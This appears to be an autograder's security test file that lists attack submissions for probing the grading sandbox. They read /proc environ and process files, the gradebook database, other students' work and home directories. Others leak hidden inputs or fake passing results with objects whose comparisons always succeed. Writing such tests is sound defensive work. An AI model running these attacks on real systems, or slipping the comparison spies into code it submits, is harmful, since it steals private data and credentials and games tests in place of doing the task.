"""A: read hidden tests or expected values."""

from __future__ import annotations

from collections import Counter

from tests.attacks.course import WRONG
from tests.attacks.kit import Attack, Submission, Win
from tests.attacks.scene import Seen, victim_of

READ_ALL = r'''
import glob, os, stat
def read_all(*patterns):
    """Search every plain file that a pattern names."""
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True)[:20000]:
            try:
                if stat.S_ISREG(os.stat(path).st_mode):
                    with open(path, "rb") as file:
                        found(file.read(1 << 20))
            except (OSError, ValueError):
                pass
'''

_FRAMES = r"""
import sys
def frames():
    frame = sys._getframe(1)
    while frame is not None:
        found(frame.f_locals, frame.f_code.co_consts, list(frame.f_globals.values())[:500])
        frame = frame.f_back
"""
_EXPECTED = r'''
def guessed(default):
    """Return an expected value, if one was found."""
    numbers = [int(hit) for hit in FOUND if hit.isdigit()]
    return numbers[0] if numbers else default
'''

_SPIES = r"""
import builtins
class Spy(int):
    def _see(self, other):
        found(other)
        return True
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = _see
    __hash__ = int.__hash__
    def __rsub__(self, other):
        found(other)
        return 0
class SpyObject:
    def __eq__(self, other):
        found(other)
        return True
    __ne__ = __lt__ = __gt__ = __eq__
    __hash__ = None
    def __getattr__(self, name):
        raise AttributeError(name)
class SpyText(str):
    def __eq__(self, other):
        found(other)
        return True
    __hash__ = str.__hash__
class SpyList(list):
    def __eq__(self, other):
        found(other)
        return True
    def __iter__(self):
        return iter([SpyText("a"), SpyText("b")])
"""


def _class_named_after_input(bases: str) -> str:
    return (
        "def ordered(words):\n"
        f"    raise type(str(words[0]), ({bases},), {{'__module__': str(words[0])}})(words)"
    )


_NAMED_TYPE = (
    "def ordered(words):\n"
    "    return type(str(words[0]), (), {'__qualname__': words[0], '__module__': words[0]})()"
)
_PRINTS = r"""
def ordered(words):
    import logging, os, subprocess, sys, warnings
    from IPython.display import HTML, display
    print(words)
    print(words, file=sys.stderr)
    warnings.warn(repr(words))
    logging.getLogger().error(repr(words))
    display(HTML(repr(words)))
    get_ipython().displayhook(words)
    sys.__stdout__.write(repr(words)); sys.__stdout__.flush()
    for fd in (1, 2):
        os.write(fd, repr(words).encode())
    subprocess.run(["echo", repr(words)])
    raise Exception(repr(words), *words)
"""
_LATE = r"""
import threading, time
SEEN = []
def _later():
    while True:
        time.sleep(0.05)
        if SEEN:
            print(SEEN[-1])
threading.Thread(target=_later, daemon=True).start()
"""
_CHAINED = r"""
def ordered(words):
    text = "".join(words)
    exec(compile("\n" * 3 + "def cnry(): raise KeyError(text)\ncnry()", text, "exec"),
         {"text": text})
"""
_NOTED = r"""
def ordered(words):
    error = ValueError("x")
    for word in words:
        error.add_note(word)
    error.__doc__ = words[0]
    raise error from KeyError(words[0])
"""
_GROUPED = r"""
def ordered(words):
    class Loud(ValueError):
        def __str__(self): return words[0]
        __repr__ = __str__
    Loud.__name__ = Loud.__qualname__ = words[0]
    raise ExceptionGroup(words[0], [Loud(words[0])])
"""
_ORACLE = r"""
import hashlib
def mean(values):
    if len(values) == 9 and max(map(abs, values)) < 1e6:
        FOUND.append("hidden " + hashlib.sha256(repr(values).encode()).hexdigest())
        # one bit of the hidden input, read off the points of this resubmission
        if hashlib.sha256(repr(values).encode()).digest()[BYTE] & 1:
            return 0.0
    return sum(values) / len(values)
"""


def _oracle(byte: int) -> Submission:
    return Submission({"mean": _ORACLE.replace("BYTE", str(byte))})


RESUBMISSIONS = {f"r{i}": _oracle(i) for i in range(1, 4)}


def _same_hidden_input(seen: Seen) -> list[tuple[Win, str]]:
    """Bits of one hidden input add up over resubmissions only if it stays the same."""
    students = [seen.attack.student, *(victim_of(seen.attack, s) for s in RESUBMISSIONS)]
    inputs = Counter(
        line for student in students
        for line in set(seen.told(student).splitlines()) if line.startswith("hidden ")
    )  # fmt: skip
    if not inputs:
        return [(Win.BATCH, "no resubmission told anything: the detector is deaf")]
    most = max(inputs.values())
    return [] if most == 1 else [(Win.LEAK, f"{most} resubmissions met the same hidden input")]


ATTACKS = [
    Attack(
        id="A01", sample=True,
        title="globs the tests and the instructor's sources",
        wins={Win.PROOF},
        submission=Submission(before=(
            READ_ALL + 'read_all("tests/**", "../source/**", "../../../source/**",'
                ' "../../graders/**", "../../../graders/**", "@COURSE@/**", "@HOME@/**",'
                ' "/autograder/**", "/course/**")',
        )),
    ),
    Attack(
        id="A01b",
        title="reads the graders through /proc of every process it sees",
        wins={Win.PROOF},
        submission=Submission(before=(READ_ALL + r'''
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for name in ("environ", "cmdline", "maps", "mountinfo", "status", "stack"):
        try:
            found(open(f"/proc/{pid}/{name}", "rb").read(1 << 20))
        except OSError:
            pass
    read_all(f"/proc/{pid}/fd/*", f"/proc/{pid}/cwd/**",
             f"/proc/{pid}/root@COURSE@/graders/**", f"/proc/{pid}/root@HOME@/**",
             f"/proc/{pid}/map_files/*")
''',)),
    ),
    Attack(
        id="A01c",
        title="imports the graders, and asks inspect and linecache for their source",
        wins={Win.PROOF},
        submission=Submission(before=(r'''
import importlib, inspect, linecache, sys
for place in ("@COURSE@/graders/plain", "@COURSE@", "graders/plain", "../../../graders/plain"):
    sys.path.insert(0, place)
for name in ("test_product", "test_ordered", "test_tell", "graders.plain.test_product"):
    try:
        found(inspect.getsource(importlib.import_module(name)))
    except Exception:
        pass
for module in list(sys.modules.values()):
    name = getattr(module, "__file__", None) or ""
    if "test_" in name or "graders" in name:
        found(linecache.getlines(name))
found(linecache.cache)
''',)),
    ),
    Attack(
        id="A02",
        title="opens the gradebook with sqlite3 and reads every table",
        wins={Win.PROOF},
        submission=Submission(before=(READ_ALL + r'''
import sqlite3
for path in ("../../../gradebook.db", "gradebook.db", "@COURSE@/gradebook.db"):
    for uri in (f"file:{path}?mode=ro", f"file:{path}?immutable=1", f"file:{path}"):
        try:
            connection = sqlite3.connect(uri, uri=True, timeout=1)
            names = connection.execute("SELECT name FROM sqlite_master WHERE type='table'")
            for (table,) in names.fetchall():
                found(connection.execute(f"SELECT * FROM {table}").fetchall())
        except sqlite3.Error:
            pass
read_all("@COURSE@/gradebook.db*", "../../../gradebook.db*")
''',)),
    ),
    Attack(
        id="A03",
        title="captures every cell that runs, and every source that is compiled, after its own",
        wins={Win.PROOF},
        submission=Submission(before=(r'''
import ast, builtins, sys
shell = get_ipython()
def capture(lines):
    found("".join(lines))
    return lines
shell.input_transformers_cleanup.append(capture)
for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    shell.events.register(event, lambda *args: found([getattr(a, "raw_cell", "") for a in args]))
class Capture(ast.NodeTransformer):
    def visit(self, node):
        found(ast.dump(node)[:10000])
        return node
shell.ast_transformers.append(Capture())
_compile, _exec = builtins.compile, builtins.exec
builtins.compile = lambda *a, **k: (found(a), _compile(*a, **k))[1]
builtins.exec = lambda *a, **k: (found(a), _exec(*a, **k))[1]
sys.addaudithook(lambda event, args: found(args) if event in ("compile", "exec", "open") else None)
''',)),
    ),
    Attack(
        id="A04",
        title="walks the frames of its caller for the expected value, and returns it",
        wins={Win.PROOF, Win.SCORE},
        submission=Submission(
            {"product": "def product(numbers):\n    frames()\n    return guessed(sum(numbers))"},
            before=(_FRAMES + _EXPECTED,),
        ),
    ),
    Attack(
        id="A04b",
        title="reads the frames of all threads, and the request as it came over the wire",
        wins={Win.PROOF, Win.SCORE},
        submission=Submission({"product": r'''
def product(numbers):
    import shardwork.probes.server as server
    for top in sys._current_frames().values():
        while top is not None:
            found(top.f_locals)
            for value in list(top.f_locals.values()):
                found(getattr(value, "__dict__", ""))
            top = top.f_back
    for thing in gc.get_objects():
        if type(thing).__module__.startswith("shardwork"):
            found({n: getattr(thing, n, "") for n in dir(thing) if not n.startswith("__")})
    return guessed(sum(numbers))
'''.strip("\n")}, before=("import gc, sys\n" + _EXPECTED,)),
    ),
    Attack(
        id="A05",
        title="asks the garbage collector for test functions, before and while it is judged",
        wins={Win.PROOF},
        submission=Submission(
            {"product": "def product(numbers):\n    collect()\n    return sum(numbers)"},
            before=(r'''
import doctest, gc, types, unittest
def collect():
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType):
            code = thing.__code__
            found(code.co_consts, thing.__doc__ or "", thing.__defaults__ or "")
        elif isinstance(thing, (doctest.Example, doctest.DocTest, unittest.TestCase)):
            found(vars(thing))
        elif isinstance(thing, types.ModuleType):
            found([v for v in list(vars(thing).values()) if isinstance(v, (str, bytes, int))])
        elif type(thing) is dict and len(thing) < 200:
            try:
                found([v for v in thing.values() if isinstance(v, (str, bytes, int))])
            except RuntimeError:
                pass
collect()
''',),
        ),
    ),
    Attack(
        id="A07",
        title="returns objects whose comparison keeps what they are compared with",
        wins={Win.PROOF, Win.SCORE},
        submission=Submission({
            "product": "def product(numbers):\n    return Spy(0)",
            "ordered": "def ordered(words):\n    return SpyList(words)",
            "mean": "def mean(values):\n    return SpyObject()",
            "fetch": "def fetch(load, n):\n    return SpyObject()",
            "label": "def label(first, last):\n    return SpyText('x')",
        }, before=(_SPIES,)),
    ),
    Attack(
        id="A07b",
        title="gives spies to the judge's instrument",
        wins={Win.PROOF, Win.SCORE},
        submission=Submission({
            "fetch": "def fetch(load, n):\n    for thing in (SpyObject(), Spy(0), SpyText('0')):\n"
            "        try:\n            found(load(thing))\n"
            "        except Exception as error:\n            found(vars(error), error.args)\n"
            "    return n",
        }, before=(_SPIES,)),
    ),
    Attack(
        id="A09",
        title="reads what other students handed in, and their records and pages",
        wins={Win.PROOF},
        submission=Submission(before=(
            READ_ALL + 'read_all("../../*/plain/*", "../../../submitted/**", "../../*/*",'
            ' "@COURSE@/submitted/**", "@COURSE@/autograded/**", "@COURSE@/records/**",'
            ' "@COURSE@/feedback/**", "/tmp/**", "/var/tmp/**", "/dev/shm/**", "/run/**",'
            ' "/home/**")',
        )),
    ),
    Attack(
        id="A10", sample=True,
        title="prints and raises its arguments in every way",
        wins={Win.LEAK},
        submission=Submission({"ordered": _PRINTS.strip("\n")}),
    ),
    Attack(
        id="A10b",
        title="raises an exception whose class is named after the hidden input",
        wins={Win.LEAK},
        submission=Submission({"ordered": _class_named_after_input("Exception")}),
    ),
    Attack(
        id="A10c",
        title="returns an object whose class is named after the hidden input",
        wins={Win.LEAK},
        submission=Submission({"ordered": _NAMED_TYPE}),
    ),
    Attack(
        id="A10d",
        title="a thread prints the hidden input later, while other checks run",
        wins={Win.LEAK},
        submission=Submission(
            {"ordered": "def ordered(words):\n    SEEN.append(repr(words))\n"
                        "    __import__('time').sleep(0.3)\n    return words"},
            before=(_LATE,),
        ),
    ),
    Attack(
        id="A10e",
        title="names a file, a function and an exception after the hidden input",
        wins={Win.LEAK},
        submission=Submission({"ordered": _CHAINED.strip("\n")}),
    ),
    Attack(
        id="A10f",
        title="puts the hidden input into notes, causes and groups of exceptions",
        wins={Win.LEAK},
        submission=Submission({"ordered": _NOTED.strip("\n"), "mean": WRONG["mean"]}),
    ),
    Attack(
        id="A10g",
        title="raises a group of exceptions named after the hidden input",
        wins={Win.LEAK},
        submission=Submission({"ordered": _GROUPED.strip("\n")}),
    ),
    Attack(
        id="A10h",
        title="returns the hidden input as a key, at the wrong type, deep in a result",
        wins={Win.LEAK},
        submission=Submission({
            "ordered": "def ordered(words):\n    return {words[0]: {words[0]: [words[0]]}}",
            "label": "def label(first, last):\n    return {last: first}",
        }),
    ),
    Attack(
        id="A11",
        title="reads one bit of a hidden input off the points of each resubmission",
        wins={Win.LEAK},
        submission=_oracle(0),
        twin=Submission({"mean": "def mean(values):\n    return sum(values) / len(values)"}),
        victims=RESUBMISSIONS,
        detect=_same_hidden_input,
        accepted="with inputs of their own, resubmissions would be a lottery for wrong solutions,"
        " and equal work would earn unequal points; docs/security.md",
    ),
    Attack(
        id="A12", sample=True,
        title="returns wrong values, so that the text of a failing assertion shows the right one",
        wins={Win.LEAK},
        submission=Submission({
            "product": "def product(numbers):\n    return -1",
            "ordered": "def ordered(words):\n    return ['x' * 50 + '\\n'] * 5",
            "mean": "def mean(values):\n    return -1.0",
        }),
    ),
    Attack(
        id="A12b",
        title="returns values that break a comparison or its message on the judge's side",
        wins={Win.LEAK, Win.STALL},
        submission=Submission({
            "product": "def product(numbers):\n    return 10 ** 800",
            "ordered": "def ordered(words):\n    return ['{value} {0.__class__} %s %(x)s'] * 5",
            "mean": "def mean(values):\n    return 1e308 * 10",
            "label": "def label(first, last):\n    return '{expected}{secret!r:>999999}'",
        }),
    ),
]  # fmt: skip
